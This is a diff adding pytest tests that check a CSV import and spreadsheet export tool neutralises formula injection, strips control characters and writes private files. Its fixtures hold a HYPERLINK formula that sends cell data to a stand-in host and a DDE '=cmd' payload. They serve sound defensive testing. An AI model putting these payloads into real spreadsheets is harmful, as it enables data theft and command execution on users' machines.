@@ -62,3 +62,55 @@ def test_errors_are_one_line(db: str, tmp_path: Path, capsys: pytest.CaptureFixt
     assert "No column is mapped to" in capsys.readouterr().err
     assert main(["--db", db, "import", "undo", "999"]) == 1
     assert capsys.readouterr().err.strip() == "carenet: error: No import with id 999."
+
+
+def test_the_rejection_report_is_private_and_runs_no_formula(db: str, tmp_path: Path,
+                                                              capsys: pytest.CaptureFixture[str]) -> None:
+    """Issue 22, item 11: a rejected cell such as ``=HYPERLINK(...)`` was echoed raw, in a 0644 file."""
+    import csv
+    import stat
+
+    bad = write_csv(tmp_path / "v.csv", ["MRN", "Visit Date", "CPT"],
+                    [['=HYPERLINK("http://x.example/?"&A1,"click")', "2024-01-02", "99392"],
+                     ["M001", "-2+3", "99392"], ["M001", "2024-01-02", "993\x0792"]])
+    report = tmp_path / "rej.csv"
+    assert main(["--db", db, "import", "csv", str(bad), "--kind", "encounters", "--rejections", str(report)]) == 1
+    assert stat.S_IMODE(report.stat().st_mode) & 0o077 == 0
+    with report.open(encoding="utf-8", newline="") as fh:
+        values = [row["value"] for row in csv.DictReader(fh)]
+    assert values and not any(v.startswith(("=", "+", "-", "@")) for v in values), values
+    assert any(v.startswith("'=HYPERLINK") for v in values)
+    assert not any("\x07" in v for v in values)
+
+
+def test_a_control_character_rejects_its_row_only(db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Issue 22, item 10: a NUL byte from a CSV was stored and broke the practice's Excel export."""
+    import csv
+
+    bad = write_csv(tmp_path / "v.csv", ["MRN", "Visit Date", "CPT"],
+                    [["M001", "2024-01-02", "99392"], ["M001", "2024-01-03", "993\x0092"]])
+    report = tmp_path / "rej.csv"
+    assert main(["--db", db, "import", "csv", str(bad), "--kind", "encounters", "--valid-rows-only",
+                 "--rejections", str(report)]) == 0
+    assert "1 added" in capsys.readouterr().out
+    with report.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert {r["row"] for r in rows} == {"3"}
+    assert "holds a control character (NUL or similar)" in [r["reason"] for r in rows]
+    assert not any("\x00" in r["value"] for r in rows)
+
+
+def test_writers_survive_control_characters_and_keep_exports_private(tmp_path: Path) -> None:
+    import stat
+
+    from openpyxl import load_workbook
+
+    from carenet_desktop.reports.spreadsheets import write_table
+
+    frame = pd.DataFrame({"name": ["Ann\x00Lee", "=cmd|' /C calc'!A0"], "n": [1, 2]})
+    for suffix in (".xlsx", ".csv"):
+        path = tmp_path / f"out{suffix}"
+        write_table(frame, path)
+        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0
+    cells = [c.value for c in load_workbook(tmp_path / "out.xlsx").active["A"]]
+    assert cells[1] == "Ann?Lee" and str(cells[2]).startswith("'=")
